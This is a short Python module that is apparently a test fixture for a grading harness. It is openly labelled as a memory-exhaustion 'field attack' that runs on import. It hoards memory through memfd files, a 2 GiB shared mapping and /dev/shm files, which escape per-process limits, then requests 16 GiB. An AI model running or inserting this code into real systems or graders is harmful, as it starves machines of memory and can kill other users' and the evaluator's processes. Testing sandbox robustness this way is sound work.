# module: cost
# A field attack (tests/test_field.py), appended to the reference: at import, in every child, it
# holds memory that no per-process limit counts (36 memfd files of 64 MiB, a 2 GiB shared
# anonymous mapping, files in /dev/shm named conv-gemm-hog-*), then asks for 16 GiB. Under a
# 768 MiB container the out-of-memory killer would otherwise take the grader's own processes.
import mmap as _mmap
import os as _os

import numpy as _np

_HELD = []


def _hog():
    chunk = b"x" * (64 << 20)
    for i in range(36):
        try:
            fd = _os.memfd_create(f"hog{i}")
            _os.write(fd, chunk)
            _HELD.append(fd)
        except OSError:
            break
    try:
        shared = _mmap.mmap(-1, 2 << 30)
        for offset in range(0, 2 << 30, 64 << 20):
            shared[offset:offset + len(chunk)] = chunk
        _HELD.append(shared)
    except (OSError, ValueError):
        pass
    for i in range(12):
        try:
            with open(f"/dev/shm/conv-gemm-hog-{_os.getpid()}-{i}", "wb") as f:
                f.write(chunk)
        except OSError:
            break
    try:
        _HELD.append(_np.ones(2 << 30))  # 16 GiB
    except MemoryError:
        pass


_hog()
